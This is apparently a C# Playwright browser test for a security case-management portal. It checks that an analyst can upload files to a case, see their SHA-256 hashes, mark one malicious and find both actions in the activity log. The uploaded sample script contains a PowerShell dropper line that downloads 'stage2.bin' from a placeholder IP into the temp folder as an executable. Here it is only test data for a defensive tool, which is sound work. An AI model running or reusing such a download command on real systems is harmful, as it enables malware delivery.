using System.Security.Cryptography;
using CasesPortal.Features.Accounts;
using CasesPortal.Features.Cases.Services;
using Microsoft.Playwright;

namespace CasesPortal.Tests.Features.Cases.Files;

[Trait(Layer.Name, Layer.Browser)]
public sealed class CaseFilesBrowserTests(BrowserFixture browser) : IClassFixture<BrowserFixture>
{
    // A 2×2 PNG, so the list shows a real thumbnail.
    private static readonly byte[] Png = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==");

    [SkippableFact]
    public async Task An_analyst_uploads_two_files_sees_their_hashes_and_marks_one_malicious()
    {
        var email = "ana.files@soc.example";
        var userId = await HttpForms.CreateAccountAsync(browser.Portal, email, Roles.Analyst);
        var actor = new CaseActor(userId, new HashSet<string> { Roles.Analyst });
        var item = (await browser.Portal.Services.GetRequiredService<CaseService>().CreateAsync(actor, new NewCase("Dropper on WS-7", "", []))).Value!;
        var page = await browser.NewPageAsync();
        await BrowserSteps.LogInAsync(page, email, TestAccounts.AnalystPassword);
        await page.GotoAsync($"/cases/{item.Number}");
        await BrowserSteps.WaitInteractiveAsync(page);
        await page.Locator("#case-title").WaitForAsync();

        await page.ClickAsync(".mud-tab:has-text('Files')");
        await page.Locator("#file-drop-zone").WaitForAsync();
        await page.Locator("#files-empty").WaitForAsync();
        var script = "Invoke-WebRequest http://203.0.113.7/stage2.bin -OutFile $env:TEMP\\s.exe"u8.ToArray();
        await page.Locator(".file-upload input[type=file]").SetInputFilesAsync(new FilePayload[]
        {
            new() { Name = "stage1.ps1", MimeType = "text/plain", Buffer = script },
            new() { Name = "screenshot.png", MimeType = "image/png", Buffer = Png },
        });

        var rows = page.Locator("#case-files .case-file");
        await page.Locator("#case-files .case-file[data-name='stage1.ps1']").WaitForAsync();
        await page.Locator("#case-files .case-file[data-name='screenshot.png']").WaitForAsync();
        Assert.Equal(2, await rows.CountAsync());
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(script)),
            await page.InnerTextAsync("#case-files .case-file[data-name='stage1.ps1'] .case-file-sha"));
        await page.Locator(".case-file[data-name='screenshot.png'] .case-file-preview img").WaitForAsync();
        await page.Locator(".mud-tab:has-text('Files') .mud-badge", new() { HasText = "2" }).WaitForAsync();
        await BrowserSteps.ScreenshotAsync(page, "files-01-uploaded");

        var script1 = page.Locator(".case-file[data-name='stage1.ps1']");
        await script1.Locator(".file-actions button").ClickAsync();
        await page.ClickAsync(".mud-popover-open .toggle-malicious");
        await page.Locator(".mud-dialog", new() { HasText = "password “infected”" }).WaitForAsync();
        await BrowserSteps.ScreenshotAsync(page, "files-02-confirm-malicious");
        await page.ClickAsync(".mud-dialog button:has-text('Mark malicious')");
        await script1.Locator(".malicious-chip").WaitForAsync();
        Assert.Equal(0, await page.Locator(".case-file[data-name='screenshot.png'] .malicious-chip").CountAsync());
        await BrowserSteps.ScreenshotAsync(page, "files-03-marked-malicious");

        await page.ClickAsync(".mud-tab:has-text('Activity')");
        await page.Locator("#activity-list li", new() { HasText = "attached 2 files" }).WaitForAsync();
        await page.Locator("#activity-list li", new() { HasText = "marked stage1.ps1 as malicious" }).WaitForAsync();
        await BrowserSteps.ScreenshotAsync(page, "files-04-activity");
    }
}
